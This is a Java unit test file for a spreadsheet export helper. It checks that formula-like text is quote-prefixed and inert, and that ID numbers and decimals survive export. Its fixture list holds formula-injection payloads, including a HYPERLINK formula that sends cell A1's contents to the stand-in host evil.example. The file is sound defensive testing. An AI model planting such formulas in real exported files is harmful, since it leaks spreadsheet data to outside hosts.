package cn.anju.shared.excel;

import org.apache.poi.ss.usermodel.Cell;
import org.apache.poi.ss.usermodel.CellType;
import org.apache.poi.ss.usermodel.DataFormatter;
import org.apache.poi.ss.usermodel.Row;
import org.apache.poi.xssf.usermodel.XSSFWorkbook;
import org.junit.jupiter.api.Test;

import java.io.ByteArrayInputStream;
import java.io.IOException;
import java.math.BigDecimal;
import java.util.ArrayList;
import java.util.Arrays;
import java.util.List;

import static org.assertj.core.api.Assertions.assertThat;

/** Exports stay inert: text a spreadsheet could run is quote-prefixed, numbers stay numbers. */
class SheetsWriteTest {

    static final List<String> HOSTILE = List.of("=HYPERLINK(\"http://evil.example/?\"&A1,\"点击查看\")", "+1", "-2",
            "@SUM(A1)", "\t=1+1", "\r=1+1");

    @Test
    void textThatCouldRunIsQuotePrefixedAndKeptAsTyped() throws IOException {
        List<Object> row = new ArrayList<>(HOSTILE);
        byte[] xlsx = Sheets.write("导出", List.of("a", "b", "c", "d", "e", "f"), List.of(row));
        try (XSSFWorkbook workbook = new XSSFWorkbook(new ByteArrayInputStream(xlsx))) {
            Row written = workbook.getSheetAt(0).getRow(1);
            for (int i = 0; i < HOSTILE.size(); i++) {
                Cell cell = written.getCell(i);
                assertThat(cell.getCellType()).as(HOSTILE.get(i)).isEqualTo(CellType.STRING);
                assertThat(cell.getStringCellValue()).isEqualTo(HOSTILE.get(i));
                assertThat(cell.getCellStyle().getQuotePrefixed()).as(HOSTILE.get(i)).isTrue();
            }
            // one inert style for the whole workbook, however many hostile cells
            assertThat(workbook.getNumCellStyles()).isLessThanOrEqualTo(5);
        }
    }

    @Test
    void ordinaryTextIsNotPrefixedAndIdNumbersStayWhole() throws IOException {
        byte[] xlsx = Sheets.write("导出", List.of("姓名", "证件", "日期", "空"),
                List.of(Arrays.asList("张建华", "610802198001051234", "2026-11-16", null)));
        try (XSSFWorkbook workbook = new XSSFWorkbook(new ByteArrayInputStream(xlsx))) {
            Row written = workbook.getSheetAt(0).getRow(1);
            for (Cell cell : written) {
                assertThat(cell.getCellType()).isEqualTo(CellType.STRING);
                assertThat(cell.getCellStyle().getQuotePrefixed()).isFalse();
            }
            assertThat(written.getCell(1).getStringCellValue()).isEqualTo("610802198001051234");
            assertThat(written.getCell(3).getStringCellValue()).isEmpty();
        }
    }

    @Test
    void numbersStayNumbersWithTheirDecimals() throws IOException {
        byte[] xlsx = Sheets.write("导出", List.of("欠费", "退款", "人口", "户号", "比例"),
                List.of(List.of(new BigDecimal("1234.50"), new BigDecimal("-2.00"), 3, 9_000_000_001L, 0.25)));
        try (XSSFWorkbook workbook = new XSSFWorkbook(new ByteArrayInputStream(xlsx))) {
            Row written = workbook.getSheetAt(0).getRow(1);
            DataFormatter shown = new DataFormatter();
            for (Cell cell : written) {
                assertThat(cell.getCellType()).isEqualTo(CellType.NUMERIC);
                assertThat(cell.getCellStyle().getQuotePrefixed()).isFalse();
            }
            assertThat(written.getCell(0).getNumericCellValue()).isEqualTo(1234.5);
            assertThat(written.getCell(1).getNumericCellValue()).isEqualTo(-2.0);
            assertThat(shown.formatCellValue(written.getCell(0))).isEqualTo("1234.50");
            assertThat(shown.formatCellValue(written.getCell(1))).isEqualTo("-2.00");
            assertThat(shown.formatCellValue(written.getCell(3))).isEqualTo("9000000001");
        }
    }

    @Test
    void whatCouldRunIsTheOwaspList() {
        assertThat(List.of("=", "+", "-", "@", "\t", "\r")).allMatch(SheetCells::couldRun);
        assertThat(List.of("", "张=", "1-2", " 说明", "（-）")).noneMatch(SheetCells::couldRun);
    }
}
